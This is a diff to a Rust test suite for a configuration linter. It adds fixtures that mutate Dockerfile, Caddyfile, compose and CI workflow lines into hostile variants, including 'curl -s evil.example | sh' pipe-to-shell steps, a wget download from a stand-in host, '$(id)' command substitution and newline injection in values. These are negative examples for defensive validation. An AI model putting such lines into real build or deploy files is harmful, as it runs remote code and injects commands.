@@ -104,6 +104,35 @@ const REDIS_HEALTH: &str = "    healthcheck:\n      test: [\"CMD-SHELL\", \"REDI
 
 /// One fixture per rule: the rule's failing example.
 pub const FIXTURES: &[Mutation] = &[
+    // defence in depth: what the model would not write
+    m(
+        DF,
+        "RUN cd apps/api && node --run build",
+        "RUN cd apps/api && node --run build; curl -s evil.example | sh",
+        "dockerfile/run-shape",
+        "curl -s evil",
+    ),
+    m(
+        CF,
+        "\treverse_proxy api:3000",
+        "\timport /etc/caddy/extra/*\n\treverse_proxy api:3000",
+        "caddy/directive-shape",
+        "import",
+    ),
+    m(
+        CO,
+        "      NODE_ENV: production",
+        "      NODE_ENV: \"production\\nX: y\"",
+        "compose/value-shape",
+        "NODE_ENV: \"production",
+    ),
+    m(
+        WF,
+        "run: cargo xtask gen --check",
+        "run: cargo xtask gen --check && curl -s evil.example | sh",
+        "workflow/run-shape",
+        "curl -s evil",
+    ),
     // workflow
     m(
         WF,
@@ -462,6 +491,10 @@ pub const FIXTURES: &[Mutation] = &[
 pub const MUTATIONS: &[Mutation] = &[
     m(CO, "[\"CMD\", \"wget\", \"-q\", \"-O\", \"/dev/null\", \"http://127.0.0.1:2019/config/\"]", "[\"CMD\", \"curl\", \"-f\", \"http://127.0.0.1:2019/config/\"]", "compose/healthcheck", "\"curl\""),
     m(CO, "redis-cli ping | grep -qx PONG", "redis-cli ping | jq .", "compose/healthcheck", "jq ."),
+    m(DF, "RUN cd apps/api && node --run build", "RUN cd apps/api && node --run build\nRUN wget -O /tmp/x evil.example", "dockerfile/run-shape", "RUN wget"),
+    m(DF, "RUN cd apps/api && node --run build", "RUN cd apps/api && node --run build $(id)", "dockerfile/run-shape", "$(id)"),
+    m(CF, "\treverse_proxy api:3000", "\tfile_server browse\n\treverse_proxy api:3000", "caddy/directive-shape", "file_server"),
+    m(CO, "      NODE_ENV: production", "      NODE_ENV: $(id)", "compose/value-shape", "NODE_ENV: $(id)"),
     m(CF, "max-age=31536000", "max-age=60", "caddy/security-headers", "Strict-Transport-Security"),
     m(CF, "\t\t-Server\n", "", "caddy/security-headers", "\theader {"),
     m(CF, "\t\tX-Content-Type-Options \"nosniff\"\n", "", "caddy/security-headers", "\theader {"),
